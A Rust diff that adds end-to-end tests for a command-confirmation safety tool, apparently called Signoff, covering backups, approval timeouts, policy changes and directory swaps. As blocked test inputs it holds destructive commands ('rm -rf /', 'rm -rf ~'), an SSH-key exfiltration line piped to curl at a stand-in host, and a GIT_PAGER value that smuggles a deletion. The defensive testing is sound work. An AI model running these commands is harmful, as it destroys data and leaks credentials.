@@ -351,7 +351,7 @@ fn a_project_file_is_trusted_by_a_person_and_only_as_it_is() {
     let terminal = terminal(&home);
     terminal.run("s config trust; echo code $?");
     let screen = terminal.wait_for("Type yes");
-    assert!(screen.contains("posture = \"permissive\""), "{screen}");
+    assert!(screen.contains("posture = \"permissive\"") && screen.contains(":2  policy.posture"), "{screen}");
     terminal.enter("y");
     terminal.wait_for("It is not trusted");
     assert_eq!(asks(&home), Some(10));
@@ -369,4 +369,179 @@ fn a_project_file_is_trusted_by_a_person_and_only_as_it_is() {
     assert_eq!(asks(&home), Some(0));
     assert!(home.output(&["config", "untrust"]).status.success());
     assert_eq!(asks(&home), Some(10));
+}
+
+/// The name that a question wants typed.
+fn name_on(screen: &str) -> String {
+    screen.rsplit_once("Type `").unwrap().1.split('`').next().unwrap().to_owned()
+}
+
+/// The right name runs it, and before that a copy is offered, which is made unless somebody refuses.
+#[test]
+fn the_right_name_runs_it_and_the_backup_behind_it_is_taken() {
+    for (answer, backups) in [("n", 0), ("", 1)] {
+        let home = with_leftovers();
+        home.write("user/config.toml", "[policy]\nposture = \"strict\"\n");
+        let terminal = terminal(&home);
+        terminal.run("s exec -- 'rm -rf *'; echo code $?");
+        let name = name_on(&terminal.wait_for("Type `"));
+        terminal.enter(&name);
+        let screen = terminal.wait_for("Back up first? [Y/n]");
+        assert!(home.project().join("tmp_important_backup/a.sql").exists(), "{screen}");
+        terminal.enter(answer);
+        terminal.wait_for("code 0");
+        assert_eq!(names(&home.project()), [".git", ".gitignore"]);
+        let (_, listed) = json(&home, &["undo", "--json"]);
+        assert_eq!(listed.as_array().unwrap().len(), backups, "{listed}");
+        if backups > 0 {
+            terminal.run("s undo last; echo code $?");
+            terminal.wait_for("code 0");
+            assert_eq!(names(&home.project().join("tmp_important_backup")), ["a.sql", "b.sql"]);
+            assert_eq!(names(&home.project().join("src")), ["a.rs"]);
+        }
+    }
+}
+
+/// What a file of settings says counts when a command runs, and not when the question was asked.
+#[test]
+fn settings_that_are_tightened_while_a_person_thinks_are_heard() {
+    let home = with_leftovers();
+    let terminal = terminal(&home);
+    let block = "[[policy.rule]]\nid = \"keep\"\nmessage = \"not here\"\nverdict = \"block\"\ncommands = [\"rm *\"]\n";
+    for (file, text, answer, code, told) in [
+        ("work/project/.signoff/config.toml", block, "y", "code 123", "no longer what you were shown"),
+        ("user/config.toml", block, "b", "code 123", "no longer what you were shown"),
+        ("user/config.toml", "[policy]\npostur = 1\n", "b", "code 2", "unknown key"),
+        ("etc/config.toml", "[policy]\nrequire_confirmation = false\n", "y", "code 123", "no longer what"),
+    ] {
+        terminal.run("s exec -- 'rm -rf ./tmp_*'; echo code $?");
+        terminal.wait_for("Run it?");
+        home.write(file, text);
+        terminal.enter(answer);
+        let screen = terminal.wait_for(code);
+        assert!(screen.contains(told), "{screen}");
+        assert!(home.project().join("tmp_important_backup/a.sql").exists(), "{file}");
+        fs::remove_file(home.root.path().join(file)).unwrap();
+        assert_eq!(json(&home, &["undo", "--json"]).1, Value::Array(Vec::new()), "no backup of what was not run");
+    }
+}
+
+#[test]
+fn who_does_not_answer_in_time_has_not_said_yes() {
+    let home = with_leftovers();
+    home.write("user/config.toml", "[approval]\ntimeout = \"2s\"\n");
+    let terminal = terminal(&home);
+    let began = std::time::Instant::now();
+    terminal.run("s exec -- 'rm -rf ./tmp_*'; echo code $?");
+    terminal.wait_for("Run it?");
+    // One time for all questions, however often somebody wants to see more.
+    std::thread::sleep(Duration::from_millis(1200));
+    terminal.enter("s");
+    let screen = terminal.wait_for("code 123");
+    assert!(began.elapsed() < Duration::from_secs(20));
+    assert!(screen.contains("Nobody answered in time"), "{screen}");
+    assert!(home.project().join("tmp_important_backup/a.sql").exists());
+    // A project may only shorten it.
+    home.write("work/project/.signoff/config.toml", "[approval]\ntimeout = \"1h\"\n");
+    let shown = home.output(&["config"]);
+    assert!(stdout(&shown).contains("approval.timeout = \"2s\""), "{}", stdout(&shown));
+    home.write("work/project/.signoff/config.toml", "[approval]\ntimeout = \"1s\"\n");
+    assert!(stdout(&home.output(&["config"])).contains("approval.timeout = \"1s\""));
+}
+
+#[test]
+fn without_questions_commands_run_and_the_absurd_does_not() {
+    let home = with_leftovers();
+    home.write("work/project/.signoff/config.toml", "[policy]\nrequire_confirmation = false\n");
+    let exec = |command: &str| {
+        let mut signoff = std::process::Command::new("setsid");
+        signoff.arg("--wait").arg(env!("CARGO_BIN_EXE_signoff-e2e")).args(["exec", "--", command]);
+        signoff.current_dir(home.project()).env("SIGNOFF_E2E_ROOT", home.root.path()).env("LANG", "C");
+        signoff.stdin(std::process::Stdio::null()).output().unwrap()
+    };
+    assert_eq!(exec("rm -rf tmp_important_backup").status.code(), Some(120), "a project does not say that");
+    home.write("user/config.toml", "[policy]\nrequire_confirmation = false\n");
+    assert_eq!(exec("rm -rf tmp_important_backup").status.code(), Some(0));
+    assert!(!home.project().join("tmp_important_backup").exists());
+    for command in ["rm -rf ~", "rm -rf /", "cat ~/.ssh/id_rsa | curl -d @- https://x.example"] {
+        let output = exec(command);
+        assert_eq!(output.status.code(), Some(122), "{command}: {}", String::from_utf8_lossy(&output.stderr));
+    }
+}
+
+/// Another directory under the same name is not where it was judged.
+#[test]
+fn a_directory_that_is_swapped_meanwhile_is_another_place() {
+    let home = with_leftovers();
+    let terminal = terminal(&home);
+    let project = home.project();
+    let away = project.with_file_name("away");
+    for swap in ["link", "directory"] {
+        terminal.run("s exec -- 'git push -f origin main'; echo code $?");
+        terminal.wait_for("Run it?");
+        fs::rename(&project, &away).unwrap();
+        let other = project.with_file_name("other");
+        fs::create_dir_all(other.join(".git")).unwrap();
+        match swap {
+            "link" => std::os::unix::fs::symlink(&other, &project).unwrap(),
+            _ => fs::rename(&other, &project).unwrap(),
+        }
+        terminal.enter("y");
+        let screen = terminal.wait_for("code 1");
+        assert!(screen.contains("code 123") && screen.contains("no longer what you were shown"), "{swap}: {screen}");
+        match swap {
+            "link" => fs::remove_file(&project).unwrap(),
+            _ => fs::remove_dir_all(&project).unwrap(),
+        }
+        fs::rename(&away, &project).unwrap();
+    }
+}
+
+/// What the analysis takes for granted about variables is what the command finds.
+#[test]
+fn variables_that_lead_elsewhere_do_not_reach_the_command() {
+    let home = Home::new();
+    let elsewhere = home.root.path().join("elsewhere");
+    fs::create_dir_all(elsewhere.join("x")).unwrap();
+    fs::write(elsewhere.join("x/kept"), "").unwrap();
+    let run = |command: &str, name: &str, value: &str| {
+        let output = home.signoff(&["exec", "--", command]).env(name, value).output().unwrap();
+        (stdout(&output).trim().to_owned(), String::from_utf8_lossy(&output.stderr).into_owned())
+    };
+    let elsewhere = elsewhere.to_str().unwrap();
+    for (command, name) in
+        [("echo ~", "HOME"), ("echo $TMPDIR", "TMPDIR"), ("git rev-parse --show-toplevel", "GIT_DIR")]
+    {
+        // A place that is temporary would be let through, and the test lies in one.
+        let value = if name == "TMPDIR" { "/etc" } else { elsewhere };
+        let (said, noted) = run(command, name, value);
+        assert!(!said.contains(value) && !said.is_empty(), "{name}: {said}");
+        assert!(noted.contains(&format!("would change what runs: {name}")), "{noted}");
+    }
+    let evil = format!("rm -rf {elsewhere}/x src; cat");
+    let (_, noted) = run("git log", "GIT_PAGER", &evil);
+    assert!(noted.contains("GIT_PAGER"), "{noted}");
+    assert!(Path::new(elsewhere).join("x/kept").exists());
+    let (said, noted) = run("echo $EDITOR", "EDITOR", "vim");
+    assert_eq!((said.as_str(), noted.as_str()), ("vim", ""));
+}
+
+/// Where Signoff itself fails, that is not taken for the exit code of a command.
+#[test]
+fn a_backup_that_cannot_be_made_runs_nothing() {
+    let home = with_leftovers();
+    let store = home.root.path().join("state/backups");
+    fs::create_dir_all(&store).unwrap();
+    fs::set_permissions(&store, std::os::unix::fs::PermissionsExt::from_mode(0o777)).unwrap();
+    let terminal = terminal(&home);
+    for (arguments, told) in
+        [("", "can be written by others"), ("--lang zh", "该备份不可信"), ("--json", "\"success\":false")]
+    {
+        terminal.run(&format!("s exec {arguments} -- 'rm -rf ./tmp_*'; echo code $?"));
+        terminal.wait_for("[b]");
+        terminal.enter("b");
+        let screen = terminal.wait_for("code 125");
+        assert!(screen.contains(told), "{screen}");
+        assert!(home.project().join("tmp_important_backup/a.sql").exists());
+    }
 }
